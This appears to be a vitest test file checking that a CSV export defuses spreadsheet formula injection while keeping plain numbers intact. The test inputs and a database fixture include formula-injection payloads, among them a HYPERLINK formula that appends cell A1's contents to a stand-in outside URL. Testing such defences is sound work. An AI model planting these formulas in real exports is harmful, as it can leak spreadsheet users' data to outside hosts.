/** CSV export defuses spreadsheet formulas in every cell, keeping plain numbers numbers (issue 9). */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, exportCsv } from './requests';
import { tempCore } from '../test-helpers';

describe('csvCell', () => {
  it('neutralises and quotes every cell a spreadsheet would read as a formula', () => {
    for (const s of ['=1+1', '+1', '+SUM(A1)', '-1+HYPERLINK("http://evil","x")', '-2-3', '@A1', '\tX', '\r=1', '-', '-1e5', '-1-2']) {
      const cell = csvCell(s);
      expect(cell, s).toBe(`"'${s.replace(/"/g, '""')}"`);
    }
  });
  it('leaves plain numbers and ordinary text alone', () => {
    expect(csvCell('-1.5')).toBe('-1.5');
    expect(csvCell(-42)).toBe('-42');
    expect(csvCell('0.000100')).toBe('0.000100');
    expect(csvCell('deepseek-flash')).toBe('deepseek-flash');
    expect(csvCell(null)).toBe('');
    expect(csvCell('a,b')).toBe('"a,b"');
  });
});

describe('exportCsv', () => {
  let t: ReturnType<typeof tempCore>;
  beforeAll(() => {
    t = tempCore();
    t.core.sqlite.prepare(`INSERT INTO requests (id, model, status, http_status, started_at) VALUES ('r1', '-1+HYPERLINK("http://x/?"&A1,"open")', 'refused', 400, 1700000000000)`).run();
  });
  afterAll(() => t.cleanup());

  it('a client-chosen model name starting with -<digit> reaches the file defused', () => {
    const { csv } = exportCsv(t.core.sqlite, {}, 1_700_000_000_000);
    const row = csv.split('\n')[1];
    expect(row).toContain(`"'-1+HYPERLINK(""http://x/?""&A1,""open"")"`);
    expect(row).not.toMatch(/,-1\+HYPERLINK/);
  });
});
